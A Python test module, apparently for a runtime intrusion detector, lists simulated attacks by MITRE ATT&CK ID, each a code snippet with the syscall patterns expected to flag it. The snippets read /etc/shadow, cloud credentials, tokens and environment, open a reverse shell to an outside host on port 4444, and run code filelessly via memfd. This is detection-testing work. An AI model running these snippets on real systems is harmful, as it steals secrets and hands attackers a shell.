"""What code that an application runs makes of it."""

from attacks.inside import inside
from attacks.places import HOME, TOKEN
from node import OUTSIDE


def console(technique, title, code, told, *signs):
    return inside(technique, title, code + "\nprint('DONE')", told, *signs)


ATTACKS = [
    console("T1005", "the application reads the accounts", "open('/etc/passwd').read()", ("open", r"^/etc/passwd$")),
    console(
        "T1003.008", "the application reads password hashes", "open('/etc/shadow').read()", ("open", r"^/etc/shadow$")
    ),
    console(
        "T1528", "the application reads the service account's token", f"open('{TOKEN}').read()", ("open", r"/token$")
    ),
    console(
        "T1552.001",
        "the application reads a cloud credential",
        f"open('{HOME}/.aws/credentials').read()",
        ("open", r"/\.aws/credentials$"),
    ),
    console(
        "T1003.007",
        "the application reads its own environment",
        "open('/proc/self/environ').read()",
        ("open", r"/environ$"),
    ),
    console(
        "T1552.007",
        "the application speaks to the engine's socket",
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('/run/docker.sock')",
        ("connect", r"/docker\.sock"),
    ),
    console(
        "T1071.001",
        "the application connects to its master",
        f"import socket\nsocket.create_connection(('{OUTSIDE}', 443)).close()",
        ("connect", r":443$"),
    ),
    console(
        "T1571",
        "the application listens at a port of its own",
        "import socket\nsocket.create_server(('0.0.0.0', 4545)).close()",
        ("listen", r":4545$"),
    ),
    console(
        "T1505.003",
        "a template of the application is planted",
        "open('/usr/lib/python3/dist-packages/shop_hook.py', 'w').write('')",
        ("open", r"/shop_hook\.py$"),
    ),
    console("T1074.001", "the application lays data down", "open('/tmp/.w', 'w').write('x')", ("open", r"^/tmp/\.w$")),
    console(
        "T1620",
        "the application runs what has no file",
        "import os\nm = os.memfd_create('w', 0)\nos.write(m, open('/bin/true', 'rb').read())\n"
        "if os.fork() == 0:\n  os.execv(f'/proc/self/fd/{m}', ['true'])\nos.wait()",
        ("exec", r"memfd:"),
        ("open", r"/bin/true$"),
    ),
    console(
        "T1059.004",
        "the application gives the attacker a shell",
        "import os, socket\nif os.fork() == 0:\n"
        f"  s = socket.create_connection(('{OUTSIDE}', 4444))\n  [os.dup2(s.fileno(), d) for d in range(3)]\n"
        "  os.execv('/bin/sh', ['sh'])",
        ("exec", r"/(dash|sh)$"),
        ("connect", r":4444$"),
    ),
    console(
        "T1129",
        "the application loads a library that came along",
        "import ctypes, shutil\nshutil.copy('/tmp/front.so', '/tmp/mod.so')\nctypes.CDLL('/tmp/mod.so')",
        ("open", r"^/tmp/mod\.so$"),
    ),
]
